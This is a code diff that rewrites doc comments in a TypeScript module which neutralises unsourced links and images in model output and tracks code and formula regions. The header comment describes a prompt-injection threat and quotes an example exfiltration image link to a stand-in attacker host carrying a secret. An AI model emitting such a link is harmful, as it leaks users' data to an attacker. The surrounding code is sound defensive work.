@@ -1,7 +1,8 @@
 /**
- * Turns links and images whose address no source holds into text: a model that obeys an injected
- * document could make a client fetch `![x](https://evil.example/?d=secret)`. What is live is judged
- * by a parser of CommonMark, as clients have one.
+ * Turns links and images whose address no source holds into plain text. A model that obeys an
+ * injected document could otherwise make a chat client fetch
+ * `![x](https://evil.example/?d=secret)`, or lead a reader astray. What is live is judged by a
+ * parser of CommonMark, as clients have one, not by what links usually look like.
  */
 import MarkdownParser from "markdown-it";
 import { kindOfFile } from "../formats/document-formats.js";
@@ -168,8 +169,9 @@ const FENCE = /(?<![^\n])[^\S\n]*(?:```|~~~|\$\$|\\\[|\\\])/gu;
 const NO_FORMULA = /^(?:[\s\d]|\p{Lu}{1,5}\s|$)/u;
 
 /**
- * Returns which places are in code or a formula, where brackets and addresses are left alone. Reads
- * the text before a place only, as a stream has it, and on from the last place.
+ * Returns which places are in code or a formula, where brackets and addresses are left alone.
+ * Judges by the text before a place only, so that a streamed text is read like a whole one, and
+ * reads on from the last place, so that places in ascending order take linear time.
  * @returns for each place the signs that opened what it is in; empty in plain text
  */
 export function quietPlaces(text: string): (at: number) => string {
